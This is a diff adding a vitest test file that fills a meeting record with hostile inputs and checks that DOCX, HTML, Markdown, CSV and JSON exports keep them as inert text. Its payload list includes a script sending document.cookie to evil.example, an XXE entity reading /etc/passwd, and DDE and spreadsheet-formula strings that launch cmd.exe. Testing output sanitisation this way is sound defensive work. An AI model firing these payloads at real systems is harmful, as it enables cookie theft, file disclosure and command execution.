@@ -1,0 +1,197 @@
+import { describe, expect, it } from 'vitest'
+import { documentKinds } from '../../../core/contract/words.ts'
+import { cleanText } from '../../../core/documents/clean-text.ts'
+import { writeDocument, type WrittenFormat } from '../../../core/documents/write-document.ts'
+import type { MeetingRecord } from '../../../core/minutes/record-types.ts'
+import { recordHash } from '../../../core/minutes/record.ts'
+import { readCsv } from './read-csv.ts'
+import { readDocx, wordsOf } from './read-docx.ts'
+import { readHtml } from './read-html.ts'
+import { meeting } from './written.ts'
+import { attributeOf, elements } from './xml.ts'
+
+const payloads = [
+  '<script>fetch("http://evil.example/"+document.cookie)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '</title></style></textarea><script>alert(1)</script>',
+  '<!--<script>alert(1)//-->',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#x3c;b&#x3e;',
+  '<![CDATA[<b>]]>',
+  ']]></w:t></w:r></w:p><w:p><w:r><w:t>injected',
+  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
+  '<?xml version="1.0"?>',
+  'javascript:alert(1)',
+  '[click](javascript:alert(1)) ![x](http://evil.example/x.png)',
+  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
+  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
+  '{ INCLUDETEXT "http://evil.example/a.docx" }',
+  "=cmd|' /C calc'!A0",
+  '@import url(http://evil.example/x.css); } body { display: none',
+  '\\"; } @page { size: 1px',
+  '# heading\n\n| a | b |\n|---|---|\n```\n<b>\n```',
+  '\u0000\u0001\u0008\u000b\u000c\u001b[31m\u007f\u0085\u009f',
+  '\ud800 \udfff\ud83d',
+  '\ufffe\uffff\ufeff',
+  'abc\u202efdp.exe\u2066\u2067\u202a',
+  'שלום עולם مرحبا بالعالم',
+  '👩🏽‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇧 e\u0301\u0301\u0301\u0301',
+  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
+  'x'.repeat(2_000),
+  `${'word '.repeat(400)}end`,
+  `a${' '.repeat(2_000)}b`,
+  `a${'\t'.repeat(2_000)}b`,
+  'line\r\nline\rline\nline\u2028line\u2029line',
+  '\u00a0\u200b\u2060\u00ad',
+  '__proto__',
+  'constructor',
+  '%s %n %x \\u0041 \\x41',
+  '',
+  ' ',
+]
+
+/** A record that says the payload wherever a text can be written. */
+function poisoned(payload: string): MeetingRecord {
+  return meeting((record) => {
+    const { heading, attendance, items, actions, nextMeeting } = record
+    Object.assign(heading, { title: payload, place: payload })
+    Object.assign(heading.body, { name: payload, shortName: payload })
+    if (heading.code !== null) Object.assign(heading.code, { name: payload, shortName: payload })
+    for (const constituency of attendance.constituencies) {
+      Object.assign(constituency, { name: payload, shortName: payload })
+      for (const seat of constituency.seats) {
+        seat.seat = payload
+        if (seat.member !== null) Object.assign(seat.member, { name: payload, organisation: payload })
+        for (const one of seat.attendees) Object.assign(one, { name: payload, organisation: payload })
+      }
+    }
+    for (const one of [...attendance.nonVoting, ...attendance.apologies]) {
+      Object.assign(one, { initials: payload, name: payload, organisation: payload })
+    }
+    for (const carried of attendance.carriedVotes) Object.assign(carried, { seat: payload, note: payload })
+    for (const item of items) {
+      Object.assign(item, {
+        title: payload,
+        presenter: payload,
+        outcomeReason: payload,
+        lateAcceptance: payload,
+      })
+      if (item.proposal !== null)
+        Object.assign(item.proposal, { title: payload, proposer: payload, stageDetail: payload })
+      for (const paragraph of item.paragraphs) paragraph.text = payload
+      for (const interest of item.interests) interest.text = payload
+      for (const paper of item.papers) Object.assign(paper, { reference: payload, title: payload })
+      for (const determination of item.determinations) determination.text = payload
+      for (const question of item.questions) {
+        question.text = payload
+        if (question.determination !== null) question.determination.text = payload
+        for (const round of question.rounds) {
+          Object.assign(round, { supersededReason: payload, quorum: payload })
+          for (const position of round.positions) {
+            Object.assign(position, { initials: payload, seat: payload })
+            if (position.constituency !== null) position.constituency.shortName = payload
+            for (const correction of position.corrections) {
+              Object.assign(correction, { reason: payload, correctedBy: payload })
+            }
+          }
+        }
+      }
+    }
+    for (const action of [...actions.raised, ...actions.carriedIn]) {
+      Object.assign(action, {
+        reference: payload,
+        text: payload,
+        owners: [payload, payload],
+        dueMeeting: payload,
+      })
+    }
+    for (const update of actions.updates) update.text = payload
+    if (nextMeeting !== null) nextMeeting.place = payload
+  })
+}
+
+async function write(record: MeetingRecord, document: (typeof documentKinds)[number], format: WrittenFormat) {
+  return writeDocument({ document, format, record, recordHash: recordHash(record), faces: [] })
+}
+
+const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true })
+
+describe.each(payloads.map((payload) => [JSON.stringify(payload.slice(0, 40)), payload] as const))(
+  'with %s everywhere',
+  (_name, payload) => {
+    const record = poisoned(payload)
+    // What a reader sees of it: the longest line, because a line end may part it.
+    const seen = cleanText(payload)
+      .split('\n')
+      .reduce((longest, line) => (line.length > longest.length ? line : longest), '')
+
+    it('Word opens the documents, and nothing in them is a field, a link or another file', async () => {
+      for (const document of ['minutes', 'agenda'] as const) {
+        const file = readDocx(await write(record, document, 'docx'))
+        for (const name of file.parts.keys()) if (!name.endsWith('/')) file.xml(name)
+        expect([...file.parts.keys()].filter((name) => /embeddings|media|altChunk/i.test(name))).toEqual([])
+        for (const name of ['w:hyperlink', 'w:altChunk', 'w:object', 'w:fldSimple', 'w:instrText']) {
+          expect(elements(file.body, name)).toEqual([])
+        }
+        for (const part of file.parts.keys()) {
+          if (!part.endsWith('.rels')) continue
+          for (const one of elements(file.xml(part), 'Relationship')) {
+            expect(attributeOf(one, 'TargetMode')).not.toBe('External')
+          }
+        }
+        if (document === 'minutes') expect(wordsOf(file.body)).toContain(seen)
+      }
+    })
+
+    it('HTML and Markdown hold it as text', async () => {
+      for (const document of documentKinds) {
+        const html = utf8.decode(await write(record, document, 'html'))
+        const { tags, texts } = readHtml(html)
+        expect(
+          tags.filter(({ name }) => ['script', 'img', 'svg', 'iframe', 'link', 'a'].includes(name)),
+        ).toEqual([])
+        if (document === 'minutes') expect(texts.join('\n')).toContain(seen)
+        const markdown = utf8.decode(await write(record, document, 'md')).replaceAll('<br>', '')
+        expect(markdown.replace(/\\[!-/:-@[-`{-~]/g, '')).not.toMatch(/[<&[]/)
+      }
+    })
+
+    it('CSV and JSON read back', async () => {
+      for (const document of documentKinds) {
+        const [header = [], ...rows] = readCsv(utf8.decode(await write(record, document, 'csv')))
+        for (const row of rows) expect(row).toHaveLength(header.length)
+        const json = JSON.parse(utf8.decode(await write(record, document, 'json'))) as {
+          record: MeetingRecord
+        }
+        expect(json.record.items[0]?.title).toBe(payload)
+        expect(Object.keys(Object.prototype)).toEqual([])
+      }
+    })
+  },
+)
+
+describe('a text of 30,000 characters in one paragraph', () => {
+  it.each([
+    ['blanks', ' '],
+    ['tabs', '\t'],
+    ['stops', '.'],
+    ['quotation marks', '"'],
+    ['line ends', '\n'],
+    ['digits', '1'],
+    ['marks of direction', '\u202e'],
+    ['ticks', '✓'],
+  ])('of %s is written in a few seconds', async (_name, character) => {
+    const record = meeting(({ items, actions }) => {
+      for (const item of items) item.paragraphs = []
+      const text = `a${character.repeat(30_000)}b`
+      Object.assign(items[0]!, { paragraphs: [{ number: 1, text }], outcomeReason: text })
+      for (const action of actions.raised) action.text = text
+    })
+    const started = performance.now()
+    for (const format of ['docx', 'html', 'md', 'csv'] as const) await write(record, 'minutes', format)
+    await write(record, 'action-log', 'csv')
+    // Some tenths of a second; where time grows with the square of the length it is minutes.
+    expect(performance.now() - started).toBeLessThan(15_000)
+  })
+})
